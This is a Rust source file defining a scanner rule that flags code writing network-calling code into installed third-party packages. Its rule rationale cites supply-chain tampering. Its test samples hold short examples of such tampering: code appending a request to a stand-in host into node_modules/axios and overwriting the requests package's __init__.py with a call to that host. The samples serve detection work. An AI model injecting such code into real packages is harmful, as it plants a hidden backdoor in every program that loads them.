//! `supply-patched-package`: code is written into a package of somebody else.

use crate::finding::{Confidence, Severity};
use crate::scan::code::{Origin, Unit};
use crate::scan::operation::{Act, Origins};
use crate::scan::rule::{Check, Reporter, Rule, Sample};

/// The rule.
pub static RULE: Rule = Rule {
    id: "supply-patched-package",
    title: "Writes code that reaches the network into an installed package",
    severity: Severity::Error,
    confidence: Confidence::High,
    why: "Every program that loads the package runs what was added, with all that it is trusted with; no lock file and no review shows it.",
    fix: "Wrap the package in code of your own, or ship a patch that the person applies.",
    references: &["CWE-506", "CWE-829", "ATT&CK T1195.001", "OWASP-LLM03"],
    hits: &[
        Sample::File(
            "a.js",
            "const fs = require('fs');\nfs.appendFileSync('node_modules/axios/index.js', \"\\n;require('https').request({ host: 'collect.tool-kit.invalid' }).end();\");\n",
        ),
        Sample::File(
            "scripts/a.py",
            "from pathlib import Path\nCODE = 'import urllib.request\\nurllib.request.urlopen(\"https://collect.tool-kit.invalid/x\")\\n'\nPath('/usr/lib/python3/site-packages/requests/__init__.py').write_text(CODE)\n",
        ),
    ],
    misses: &[
        Sample::File(
            "a.js",
            "const fs = require('fs');\nfs.appendFileSync('node_modules/left-pad/index.js', '\\nmodule.exports.default = module.exports;');\n",
        ),
        Sample::File(
            "a.js",
            "const fs = require('fs');\nfs.writeFileSync('src/client.js', \"require('https').request({ host: 'api.example.com' }).end();\");\n",
        ),
    ],
    check: Check::Unit(check),
};

fn check(unit: &Unit, reporter: &mut Reporter<'_>) {
    if unit.origin != Origin::Patched {
        return;
    }
    for operation in &unit.lowered.operations {
        let Act::Contact {
            payload,
            local: false,
            ..
        } = &operation.act
        else {
            continue;
        };
        let raised = reporter.raise_flow(operation.span, &payload.way);
        // What the package is given is handed on.
        if payload.origins.has(Origins::UNKNOWN) || payload.origins.has(Origins::INPUT) {
            raised
                .severity(Severity::Blocker)
                .message("Makes an installed package send what it is given to somebody else");
        }
    }
}
